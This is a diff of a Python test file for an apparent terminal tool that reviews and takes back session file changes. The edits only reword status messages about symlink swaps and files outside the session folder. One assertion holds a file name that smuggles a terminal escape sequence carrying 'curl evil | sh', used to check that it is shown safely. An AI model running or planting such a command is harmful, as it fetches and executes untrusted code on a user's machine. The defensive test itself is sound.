@@ -421,7 +421,7 @@ async def test_the_question_says_where_a_change_really_is_and_what_hides_in_it(
         await it.until(lambda: "Take this change back?" in it.screen)
         rows = [row.strip(" │┃▌") for row in it.screen.splitlines()]
         assert f"cfg/rc,whichis{outside / 'rc'}" in "".join("".join(rows).split())
-        assert "It lies outside of the session's folder." in it.screen
+        assert "It is outside the session's folder." in it.screen
         assert "-safe ␛]0;curl evil | sh␇" in it.screen
         (work / "cfg").unlink()
         (work / "cfg").mkdir()
@@ -454,7 +454,7 @@ async def test_nothing_is_taken_back_where_a_link_leads_by_now(tmp_path: Path) -
         (work / "cfg").rename(work / "away")
         (work / "cfg").symlink_to(outside)
         await agree(it)
-        await it.until(lambda: "nothing was done: it leads elsewhere by now" in it.screen)
+        await it.until(lambda: "nothing was done: it leads elsewhere now" in it.screen)
         assert it.asked == []
 
 
@@ -565,7 +565,7 @@ async def test_nothing_is_staged_in_a_folder_that_took_the_name_of_the_sessions(
             await it.press("tab")
             swap()
             await it.press("s")
-        await it.until(lambda: "it leads elsewhere by now" in it.screen)
+        await it.until(lambda: "it leads elsewhere now" in it.screen)
         staged = ["git", "diff", "--cached", "--name-only"]
         assert subprocess.run(staged, cwd=other, check=True, capture_output=True).stdout == b""
 
@@ -814,7 +814,7 @@ async def test_a_patch_goes_into_the_folder_that_was_shown(tmp_path: Path) -> No
         work.rename(tmp_path / "away")
         work.symlink_to(other)
         await it.press("enter")
-        await it.until(lambda: "it leads elsewhere by now" in it.screen)
+        await it.until(lambda: "it leads elsewhere now" in it.screen)
     assert list(other.iterdir()) == []
 
 
@@ -1037,7 +1037,7 @@ async def test_a_change_outside_of_the_folder_is_told_as_such(tmp_path: Path) ->
     session.writes.append(FileWrite(7, states.NOW, str(file), False, "old\n", "new\n", kept=True))
     async with running(state) as it:
         await it.press("f7", "n", "u")
-        await it.until(lambda: "It lies outside of the session's folder." in it.screen)
+        await it.until(lambda: "It is outside the session's folder." in it.screen)
 
 
 async def test_enter_goes_into_the_diff_and_o_opens_the_editor(
